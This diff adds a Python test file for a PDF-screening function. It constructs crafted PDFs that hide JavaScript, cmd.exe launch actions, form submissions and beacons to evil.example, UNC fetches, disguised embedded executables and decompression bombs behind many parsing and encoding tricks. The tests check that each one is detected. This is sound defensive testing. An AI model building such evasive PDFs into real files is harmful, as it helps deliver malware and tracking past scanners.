@@ -1,0 +1,346 @@
+"""A PDF is judged by its structure: whatever way it is packed, and however it is damaged."""
+
+import io
+import zlib
+
+import pikepdf
+import pytest
+
+from survey.errors import SurveyError
+from survey.evidence.judge.kinds import judge
+from tests.builders import PDF
+from tests.survey.evidence.files import make_docx, make_image
+from tests.survey.evidence.judge.pdfs import (
+    HEAD,
+    make_attachment,
+    make_object_stream,
+    make_packed_pdf,
+    make_pdf,
+    make_stream,
+)
+
+SCRIPT = b"<</S/JavaScript/JS(app.alert\\(1\\))>>"
+OPENED = b"/OpenAction 4 0 R"
+
+
+def outcome(content: bytes) -> str:
+    try:
+        kind, kept = judge(content)
+    except SurveyError as error:
+        return error.code
+    assert kept == content
+    return kind
+
+
+def _xfa(form: bytes, filters: bytes = b"") -> bytes:
+    stream = make_stream(form, filters)
+    return make_pdf(stream, catalog=b"/AcroForm<</Fields[]/XFA 4 0 R>>")
+
+
+def _predicted(columns: int = 8) -> bytes:
+    """The same object stream as a picture is packed: each row told by the one above it."""
+    plain = b"4 0 " + SCRIPT
+    plain += b" " * (-len(plain) % columns)
+    rows = [plain[at : at + columns] for at in range(0, len(plain), columns)]
+    before = bytes(columns)
+    packed = b""
+    for row in rows:
+        steps = (now - above & 0xFF for now, above in zip(row, before, strict=True))
+        packed += b"\x02" + bytes(steps)
+        before = row
+    entries = b"/Type/ObjStm/N 1/First 4/Filter/FlateDecode"
+    entries += b"/DecodeParms<</Predictor 12/Columns %d>>" % columns
+    return make_packed_pdf(make_stream(zlib.compress(packed), entries))
+
+
+def _encrypted(user: str, catalog: bytes = OPENED) -> bytes:
+    out = io.BytesIO()
+    with pikepdf.open(io.BytesIO(make_pdf(SCRIPT, catalog=catalog))) as pdf:
+        lock = pikepdf.Encryption(user=user, owner="chu-tiem", R=6)
+        pdf.save(
+            out,
+            encryption=lock,
+            object_stream_mode=pikepdf.ObjectStreamMode.generate,
+        )
+    return out.getvalue()
+
+
+def _updated() -> bytes:
+    """Harmless when it was written first; a script was added at its end."""
+    first = make_pdf(b"<</S/GoTo/D[3 0 R/Fit]>>", catalog=OPENED)
+    table = first.rindex(b"xref\n0 ")
+    place = len(first)
+    added = b"4 0 obj\n%s\nendobj\n" % SCRIPT
+    rows = b"xref\n4 1\n%010d 00000 n \n" % place
+    trailer = b"trailer\n<</Size 5/Root 1 0 R/Prev %d>>\n" % table
+    end = b"startxref\n%d\n%%%%EOF\n" % (place + len(added))
+    return first + added + rows + trailer + end
+
+
+def _hybrid() -> bytes:
+    """Old readers see a table without the script, new ones a second table with it."""
+    new = make_packed_pdf(make_object_stream(SCRIPT))
+    stream_table = new.rindex(b"6 0 obj")
+    body = new[: new.rindex(b"startxref")]
+    places = [body.index(b"%d 0 obj" % number) for number in (1, 2, 3)]
+    rows = b"".join(b"%010d 00000 n \n" % place for place in places)
+    table = b"xref\n0 4\n0000000000 65535 f \n" + rows
+    trailer = b"trailer\n<</Size 7/Root 1 0 R/XRefStm %d>>\n" % stream_table
+    return body + table + trailer + b"startxref\n%d\n%%%%EOF\n" % len(body)
+
+
+def _out_of_sight() -> bytes:
+    """Its table does not know the script, which readers of a damaged table find."""
+    content = make_pdf(b"<<>>")
+    hidden = b"4 0 obj\n%s\nendobj\n" % SCRIPT
+    table = content.rindex(b"xref\n0 ")
+    start = b"startxref\n%d\n" % table
+    moved = b"startxref\n%d\n" % (table + len(hidden))
+    return (content[:table] + hidden + content[table:]).replace(start, moved)
+
+
+ACTIVE = {
+    "plainly": make_pdf(SCRIPT, catalog=OPENED),
+    "in the catalog": make_pdf(catalog=b"/OpenAction" + SCRIPT),
+    "by name": make_pdf(SCRIPT, catalog=b"/Names<</JavaScript<</Names[(a) 4 0 R]>>>>"),
+    "letters as numbers": make_pdf(b"<</#53/Java#53cr#69pt/#4AS(1)>>", catalog=OPENED),
+    "its kind in another object": make_pdf(
+        b"<</S 5 0 R/JS(1)>>", b"/JavaScript", catalog=OPENED
+    ),
+    "its text in a stream": make_pdf(
+        b"<</S/JavaScript/JS 5 0 R>>", make_stream(b"app.alert(1)"), catalog=OPENED
+    ),
+    "on a page": make_pdf(
+        b"<</Type/Annot/Subtype/Widget/AA<</E%s>>>>" % SCRIPT,
+    ),
+    "after another action": make_pdf(
+        b"<</S/GoTo/D[3 0 R/Fit]/Next[<</S/Named/N/NextPage/Next%s>>]>>" % SCRIPT,
+        catalog=OPENED,
+    ),
+    "two kinds at once": make_pdf(b"<</S/JavaScript/S/GoTo/JS(1)>>", catalog=OPENED),
+    "a film": make_pdf(b"<</S/Rendition/JS(1)/OP 0>>", catalog=OPENED),
+    "a launch": make_pdf(b"<</S/Launch/F(cmd.exe)>>", catalog=OPENED),
+    "a launch on one system": make_pdf(b"<</S/Launch/Win<</F(cmd.exe)>>>>"),
+    "an address that is a script": make_pdf(
+        b"<</Type/Annot/Subtype/Link/A<</S/URI/URI(Java\\163cript:app.alert\\(1\\))>>>>"
+    ),
+    "rich media": make_pdf(b"<</Type/Annot/Subtype/RichMedia/RichMediaContent<<>>>>"),
+    "a model": make_pdf(
+        make_stream(b"", b"/Type/3D/Subtype/U3D/OnInstantiate 5 0 R"), make_stream(b"")
+    ),
+    "packed": make_packed_pdf(make_object_stream(SCRIPT)),
+    "(obj) in a packed dictionary": make_packed_pdf(
+        make_object_stream(b"<</Title(1 0 obj)/S/JavaScript/JS(obj)>>")
+    ),
+    "(obj) before the filter": make_packed_pdf(
+        make_object_stream(SCRIPT, filters=b"/X(4 0 obj)/Filter/FlateDecode")
+    ),
+    "a dictionary beyond 2,048 bytes": make_packed_pdf(
+        make_object_stream(SCRIPT, filters=b"/X(%s)/Filter/FlateDecode" % (b"x" * 3000))
+    ),
+    "a filter by its short name": make_packed_pdf(
+        make_object_stream(SCRIPT, filters=b"/Filter[/Fl]")
+    ),
+    "a stream's kind in numbers": make_packed_pdf(
+        make_object_stream(SCRIPT).replace(b"/ObjStm", b"/Obj#53tm")
+    ),
+    "a blank after stream": make_packed_pdf(
+        make_object_stream(SCRIPT).replace(b"stream\n", b"stream \n", 1)
+    ),
+    "CR after stream": make_packed_pdf(
+        make_object_stream(SCRIPT).replace(b"stream\n", b"stream\r", 1)
+    ),
+    "with a predictor": _predicted(),
+    "nobody's object stream": make_pdf(b"<<>>", make_object_stream(SCRIPT, first=9)),
+    "one more object stream": make_packed_pdf(
+        make_object_stream(SCRIPT, filters=b"/Extends 9 0 R/Filter/FlateDecode")
+    ),
+    "encrypted without a password": _encrypted(user=""),
+    "added later": _updated(),
+    "with two tables": _hybrid(),
+    "unknown to its table": _out_of_sight(),
+    "with a damaged table": make_pdf(SCRIPT, catalog=OPENED).replace(
+        b"xref\n0 ", b"xrxx\n0 "
+    ),
+    "a form with a script": _xfa(
+        b"<xdp><field><event><script>x</script></event></field></xdp>"
+    ),
+    "a form in two parts": make_pdf(
+        make_stream(b"<x:xdp xmlns:x='a'><x:sc"),
+        make_stream(b"ript>1</x:script></x:xdp>"),
+        catalog=b"/AcroForm<</XFA[(a) 4 0 R(b) 5 0 R]>>",
+    ),
+    "a form in UTF-16": _xfa("\ufeff<xdp><script>1</script></xdp>".encode("utf-16-le")),
+    "a packed form": _xfa(
+        zlib.compress(b"<xdp><submit/></xdp>"), b"/Filter/FlateDecode"
+    ),
+    "a form nobody can read": _xfa(b"<xdp><"),
+    "a form with a document type": _xfa(
+        b"<!DOCTYPE x [<!ENTITY s '&#60;script>1</script>'>]><x>&s;</x>"
+    ),
+}
+
+
+@pytest.mark.parametrize("way", ACTIVE)
+def test_a_program_is_found_however_it_is_packed(way):
+    assert outcome(ACTIVE[way]) == "file_active"
+
+
+REACHES_OUT = {
+    "sends a form": make_pdf(
+        b"<</S/SubmitForm/F(https://evil.example)>>", catalog=OPENED
+    ),
+    "sends what was typed": make_pdf(
+        b"<</Type/Annot/Subtype/Widget/A<</S/SubmitForm/F<</FS/URL/F(http://e.example)>>>>>>"
+    ),
+    "fetches data": make_pdf(b"<</S/ImportData/F(a.fdf)>>", catalog=OPENED),
+    "goes to another file": make_pdf(b"<</S/GoToR/F(\\\\\\\\evil\\\\a.pdf)/D[0]>>"),
+    "goes to a file inside": make_pdf(b"<</S/GoToE/T<</R/C/N(a)>>>>"),
+    "calls as it opens": make_pdf(
+        b"<</S/GoTo/D[3 0 R/Fit]/Next 5 0 R>>",
+        b"<</S/URI/URI(https://evil.example/seen)>>",
+        catalog=OPENED,
+    ),
+    "calls as a page opens": make_pdf(
+        b"<</O<</S/URI/URI(https://evil.example/seen)>>>>", catalog=b"/AA 4 0 R"
+    ),
+    "has its bytes elsewhere": make_pdf(
+        b"<</Length 0/F(\\\\\\\\evil\\\\a)/FFilter/FlateDecode>>\nstream\n\nendstream"
+    ),
+}
+
+
+@pytest.mark.parametrize("way", REACHES_OUT)
+def test_what_sends_or_fetches_is_told_so(way):
+    assert outcome(REACHES_OUT[way]) == "file_reaches_out"
+
+
+CARRIES = {
+    "a program by its name": make_attachment(b"a.exe", b"text"),
+    "a program by a second name": make_attachment(b"a.txt)/UF(a.js", b"text"),
+    "a program by its bytes": make_attachment(b"hoa-don.pdf.txt", b"MZ\x90\0"),
+    "a program with a dot behind": make_attachment(b"a.exe. ", b"MZ\0\0"),
+    "a page": make_attachment(b"a.xml", b"<x><script>1</script></x>"),
+    "an old office file": make_attachment(
+        b"a.doc", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"
+    ),
+    "another kind than its name": make_attachment(b"a.pdf", make_docx()),
+    "what cannot be unpacked": make_attachment(
+        b"a.txt", b"\xff", b"/Filter/FlateDecode"
+    ),
+    "a file beside a page": make_pdf(
+        b"<</Type/Annot/Subtype/FileAttachment/FS 5 0 R>>",
+        b"<</Type/Filespec/F(a.scr)/EF<</F 6 0 R>>>>",
+        make_stream(b"x"),
+    ),
+}
+
+
+@pytest.mark.parametrize("way", CARRIES)
+def test_a_file_inside_that_could_be_a_program_is_refused(way):
+    assert outcome(CARRIES[way]) == "file_carries"
+
+
+def test_a_file_inside_is_judged_as_if_it_came_alone():
+    script = make_pdf(SCRIPT, catalog=OPENED)
+    assert outcome(make_attachment(b"a.pdf", script)) == "file_active"
+    macros = make_docx(**{"word/vbaProject.bin": b"\0"})
+    assert outcome(make_attachment(b"a.docx", macros)) == "file_macros"
+
+
+def test_files_inside_files_end_somewhere():
+    content = make_pdf()
+    for _ in range(3):
+        content = make_attachment(b"a.pdf", content)
+    assert outcome(content) == "pdf"
+    assert outcome(make_attachment(b"a.pdf", content)) == "file_carries"
+
+
+HARMLESS = {
+    "a page": make_pdf(),
+    "a page, its table wrong": PDF,
+    "a title": make_pdf(trailer=b"/Info<</Title(HTML/CSS/JavaScript /JS /Launch)>>"),
+    "a link": make_pdf(
+        b"<</Type/Annot/Subtype/Link/A<</S/URI/URI(https://a.example/JavaScript)>>>>"
+    ),
+    "a letter": make_pdf(b"<</Subtype/Link/A<</S/URI/URI(mailto:hoa@pho.example)>>>>"),
+    "a heading in a style of that name": make_pdf(
+        b"<</Type/StructElem/S/JavaScript/P 1 0 R/K[1]>>"
+    ),
+    "a jump": make_pdf(b"<</S/GoTo/D[3 0 R/Fit]>>", catalog=OPENED),
+    "printed as it opens": make_pdf(b"<</S/Named/N/Print>>", catalog=OPENED),
+    "objects packed away": make_packed_pdf(make_object_stream(b"<</Type/X>>")),
+    "words that are none": make_pdf(b"<</JavaScripture 1/S/Launchpad>>"),
+    "a form without programs": _xfa(b"<xdp><field name='script'>submit</field></xdp>"),
+    "an invoice in XML": make_attachment(
+        b"hoa-don.xml", b"<?xml version='1.0'?><HDon/>"
+    ),
+    "a picture": make_attachment(b"a.JPG", make_image()),
+    "a table": make_attachment(b"a.csv", "tên,giá\n".encode("utf-16")),
+    "a workbook": make_attachment(b"a.docx", make_docx()),
+    "signed": make_pdf(b"<</Type/Sig/ByteRange[0 1 2 3]/Contents<00>>>"),
+    "BOM first": b"\xef\xbb\xbf" + make_pdf(),
+    "a new line first": b"\r\n" + make_pdf(),
+    "a printer's words first": b"\x1b%-12345X@PJL JOB\n" + make_pdf(),
+    "a mail's words first": b"Content-Type: application/pdf\r\n\r\n" + make_pdf(),
+    "blanks behind": make_pdf() + b" " * 4000,
+    "zeros behind": make_pdf() + b"\0" * 4000,
+    "a page behind": make_pdf() + b"\n<!-- served by the archive -->\n",
+    "without its end": make_pdf()[:-30],
+    "as FTP in text turns it": make_pdf().replace(b"\n", b"\r\n"),
+}
+
+
+@pytest.mark.parametrize("way", HARMLESS)
+def test_what_readers_open_without_a_program_is_taken_as_it_is(way):
+    assert outcome(HARMLESS[way]) == "pdf"
+
+
+def test_a_linearised_file_is_taken():
+    out = io.BytesIO()
+    with pikepdf.open(io.BytesIO(make_pdf())) as pdf:
+        pdf.save(out, linearize=True)
+    assert outcome(out.getvalue()) == "pdf"
+
+
+def test_a_file_that_only_its_owner_may_change_is_taken():
+    assert outcome(_encrypted(user="", catalog=b"")) in {"pdf", "file_active"}
+
+
+BROKEN = {
+    "a head alone": HEAD,
+    "a page behind a head": HEAD + b"<script>alert(1)</script>",
+    "packed objects that are none": make_packed_pdf(
+        make_stream(b"\xff" * 40, b"/Type/ObjStm/N 1/First 4/Filter/FlateDecode")
+    ),
+    "packed objects under a filter for pictures": make_packed_pdf(
+        make_object_stream(SCRIPT, filters=b"/Filter/DCTDecode")
+    ),
+    "packed objects under a filter that only some see": make_packed_pdf(
+        make_object_stream(SCRIPT, filters=b"/F/FlateDecode")
+    ),
+    "an action read one way or another": make_pdf(b"<</S/Launch/S/GoTo/F(cmd.exe)>>"),
+}
+
+
+@pytest.mark.parametrize("way", BROKEN)
+def test_what_cannot_be_looked_into_is_refused(way):
+    assert outcome(BROKEN[way]) == "file_broken"
+
+
+def test_a_file_that_only_its_password_opens_is_told_so():
+    assert outcome(_encrypted(user="mo-ra")) == "file_locked"
+
+
+def test_an_action_deeper_than_the_library_reads_is_refused():
+    deep = b"[" * 600 + SCRIPT + b"]" * 600
+    assert outcome(make_pdf(deep)) in {"file_heavy", "file_active"}
+
+
+@pytest.mark.parametrize("filters", [b"/FlateDecode", b"[/FlateDecode/FlateDecode]"])
+def test_objects_that_unpack_to_far_more_than_the_file_are_refused(filters):
+    packed = zlib.compress(b" " * 60_000_000)
+    if b"[" in filters:
+        packed = zlib.compress(packed)
+    entries = b"/Type/ObjStm/N 1/First 4/Filter" + filters
+    assert outcome(make_packed_pdf(make_stream(packed, entries))) == "file_heavy"
